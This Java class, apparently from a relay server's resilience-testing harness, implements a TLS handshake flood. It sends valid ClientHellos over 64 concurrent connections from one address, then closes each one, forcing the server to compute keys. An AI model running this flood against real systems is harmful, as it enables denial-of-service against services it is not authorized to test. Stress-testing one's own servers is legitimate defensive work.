package far.relay.attack;

import io.netty.buffer.ByteBuf;
import io.netty.buffer.Unpooled;
import io.netty.buffer.UnpooledByteBufAllocator;
import io.netty.channel.ChannelFutureListener;
import io.netty.channel.ChannelHandlerContext;
import io.netty.channel.ChannelInboundHandlerAdapter;
import io.netty.util.ReferenceCountUtil;
import java.io.IOException;
import java.nio.ByteBuffer;
import java.util.concurrent.TimeUnit;
import javax.net.ssl.SSLEngine;

/** Connections from one address that send a good ClientHello, for which the server computes a key, and then reset. */
final class ClientHellos implements Attack {
    private static final int AT_A_TIME = 64;

    @Override
    public Running start(Target target) throws IOException {
        ByteBuf hello = hello();
        return Horde.startRaw(target, AT_A_TIME, () -> new Sender(hello));
    }

    private static ByteBuf hello() throws IOException {
        SSLEngine engine = Target.context().newEngine(UnpooledByteBufAllocator.DEFAULT);
        ByteBuffer hello = ByteBuffer.allocate(engine.getSession().getPacketBufferSize());
        engine.beginHandshake();
        engine.wrap(ByteBuffer.allocate(0), hello);
        return Unpooled.unreleasableBuffer(Unpooled.wrappedBuffer(hello.flip()));
    }

    private static final class Sender extends ChannelInboundHandlerAdapter {
        private final ByteBuf hello;

        Sender(ByteBuf hello) {
            this.hello = hello;
        }

        @Override
        public void channelActive(ChannelHandlerContext ctx) {
            ctx.writeAndFlush(hello.duplicate()).addListener(ChannelFutureListener.CLOSE);
        }

        @Override
        public void channelRead(ChannelHandlerContext ctx, Object message) {
            ReferenceCountUtil.release(message);
        }

        @Override
        public void exceptionCaught(ChannelHandlerContext ctx, Throwable cause) {
            ctx.close();
        }
    }

    @Override
    public boolean suits(boolean tls) {
        return tls;
    }

    @Override
    public long patience() {
        return TimeUnit.MILLISECONDS.toNanos(100);
    }

    @Override
    public String toString() {
        return "one address sends ClientHellos and resets";
    }
}
